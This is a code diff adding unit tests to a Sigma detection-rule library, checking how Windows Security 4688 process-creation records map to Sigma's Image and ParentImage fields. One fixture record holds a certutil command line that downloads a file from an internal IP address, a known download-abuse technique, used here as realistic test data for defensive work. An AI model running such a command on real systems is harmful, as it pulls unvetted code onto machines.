@@ -1,5 +1,5 @@
 import { describe, expect, it } from "vitest";
-import { inLogsource } from "../../src/sigma/logsource-membership.js";
+import { inLogsource, sigmaEvent } from "../../src/sigma/logsource-membership.js";
 import type { LogSource } from "../../src/sigma/rule.js";
 
 /** Which raw records belong to which Windows logsource: the facts restated from the taxonomy. */
@@ -159,5 +159,33 @@ describe("Windows logsource membership", () => {
     expect(inLogsource(k8s, { kind: "Pod", apiVersion: "v1" })).toBe(false);
     expect(inLogsource(k8s, { verb: "get" })).toBe(true);
     expect(inLogsource(k8s, "text")).toBe(false);
+  });
+});
+
+describe("the event as a rule of the logsource reads it", () => {
+  const record4688 = {
+    Channel: "Security",
+    EventID: 4688,
+    NewProcessName: "C:\\Windows\\System32\\certutil.exe",
+    ParentProcessName: "C:\\Windows\\System32\\cmd.exe",
+    CommandLine: "certutil -urlcache -f http://10.0.1.14/a a",
+  };
+  const pc = { product: "windows", category: "process_creation" };
+
+  it("shows Security 4688's NewProcessName and ParentProcessName as Image and ParentImage", () => {
+    expect(sigmaEvent(pc, record4688)).toMatchObject({
+      Image: record4688.NewProcessName,
+      ParentImage: record4688.ParentProcessName,
+      NewProcessName: record4688.NewProcessName,
+    });
+  });
+
+  it("leaves Sysmon records, other categories and other products as they are", () => {
+    const sysmon1 = { Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1, Image: "a.exe" };
+    expect(sigmaEvent(pc, sysmon1)).toBe(sysmon1);
+    expect(sigmaEvent({ product: "windows", service: "security" }, record4688)).toBe(record4688);
+    expect(sigmaEvent({ product: "linux", category: "process_creation" }, record4688)).toBe(
+      record4688,
+    );
   });
 });
